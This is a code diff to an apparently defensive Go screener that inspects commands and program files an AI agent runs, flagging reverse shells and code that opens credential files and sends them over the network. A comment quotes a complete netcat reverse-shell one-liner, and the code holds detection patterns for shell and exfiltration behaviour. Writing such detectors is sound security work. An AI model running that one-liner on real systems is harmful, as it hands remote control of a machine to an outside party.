@@ -787,23 +787,7 @@ func (s *screen) interpreter(i int, c shellnorm.Command, words []string, n strin
 			}
 		}
 	}
-	code := strings.ToLower(strings.Join(words[1:], " "))
-	if containsAny(code, socketMarkers) && containsAny(code, shellMarkers) {
-		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
-	}
-	if strings.Contains(code, "://") || strings.Contains(code, "socket") || strings.Contains(code, "urllib") ||
-		strings.Contains(code, "requests.") || strings.Contains(code, "fetch(") || strings.Contains(code, "http.") {
-		s.r.Network = true
-		if opensFile(code) {
-			// Code that opens a file and reaches the network sends the
-			// file itself: nothing of it passes through the agent.
-			var sent []string
-			for _, p := range quotedPaths(strings.Join(words[1:], " ")) {
-				sent = append(sent, s.pathSource(p))
-			}
-			s.secretSent(n, "the network", sent)
-		}
-	}
+	s.code(n, strings.Join(words[1:], " "), true)
 	// A shell whose output goes to a socket and whose input comes from
 	// one (mkfifo f; sh -i <f | nc host 4444 >f).
 	if shellnorm.IsShell(n) {
@@ -813,6 +797,91 @@ func (s *screen) interpreter(i int, c shellnorm.Command, words []string, n strin
 			}
 		}
 	}
+}
+
+// code judges code given to the interpreter n: one that wires a shell
+// to a socket (when shells), or opens a credential file and reaches the
+// network.
+func (s *screen) code(n, raw string, shells bool) {
+	code := strings.ToLower(raw)
+	if shells && containsAny(code, socketMarkers) && containsAny(code, shellMarkers) {
+		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
+	}
+	if reachesNetwork(code) {
+		s.r.Network = true
+		if opensFile(code) {
+			// Code that opens a file and reaches the network sends the
+			// file itself: nothing of it passes through the agent.
+			var sent []string
+			for _, p := range quotedPaths(raw) {
+				sent = append(sent, s.pathSource(p))
+			}
+			s.secretSent(n, "the network", sent)
+		}
+	}
+}
+
+func reachesNetwork(code string) bool {
+	return strings.Contains(code, "://") || strings.Contains(code, "socket") || strings.Contains(code, "urllib") ||
+		strings.Contains(code, "requests.") || strings.Contains(code, "fetch(") || strings.Contains(code, "http.")
+}
+
+// programExts are the extensions of files an interpreter runs by name.
+var programExts = map[string]string{".py": "python3", ".pyw": "python3", ".js": "node", ".mjs": "node", ".cjs": "node",
+	".ts": "node", ".mts": "node", ".cts": "node", ".rb": "ruby", ".pl": "perl", ".pm": "perl", ".php": "php",
+	".ps1": "pwsh", ".lua": "lua", ".tcl": "tclsh"}
+
+// Program returns the interpreter that runs text written to path, by the
+// path's extension or the text's #! line, when it is not a shell
+// (Script), or "".
+func Program(path, text string) string {
+	line, _, _ := strings.Cut(strings.TrimSpace(text), "\n")
+	if rest, ok := strings.CutPrefix(line, "#!"); ok {
+		for _, w := range strings.Fields(rest) {
+			if n := name([]string{w}); n != "env" && !strings.HasPrefix(w, "-") {
+				if interpreter(n) && !shellnorm.IsShell(n) {
+					return n
+				}
+				return ""
+			}
+		}
+	}
+	if Script(path, text) {
+		return ""
+	}
+	p := strings.ToLower(path)
+	if i := strings.LastIndexByte(p, '.'); i >= 0 && !strings.ContainsAny(p[i:], `/\`) {
+		return programExts[p[i:]]
+	}
+	return ""
+}
+
+// ScreenProgram judges a program file as the code its interpreter n runs
+// (python3 tools/sync.py) by the rules for inline code (python3 -c),
+// statement by statement (a line): one that opens a credential file and
+// sends it is refused as its -c form is. A file that opens a credential
+// file in one statement and reaches the network in another is asked
+// about: reading a key to call its own service is ordinary work, and
+// so is sending the file in two steps.
+func ScreenProgram(n, text string) Report {
+	s := &screen{}
+	for _, line := range strings.Split(text, "\n") {
+		s.code(n, line, false)
+	}
+	// A program imports socket and subprocess for many honest ends; a
+	// socket wired to the descriptors of a spawned shell has none.
+	if l := strings.ToLower(text); containsAny(l, socketMarkers) && containsAny(l, []string{"dup2", "pty.spawn"}) {
+		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
+	}
+	if _, ok := s.r.Worst(); !ok && reachesNetwork(strings.ToLower(text)) && opensFile(strings.ToLower(text)) {
+		for _, p := range quotedPaths(text) {
+			if why := secretfile.Why(p); why != "" {
+				s.add(Upload, false, fmt.Sprintf("%s opens %s (%s) and reaches the network", n, p, why))
+				break
+			}
+		}
+	}
+	return s.r
 }
 
 // fetchedBy returns the fetching command whose output the command at i
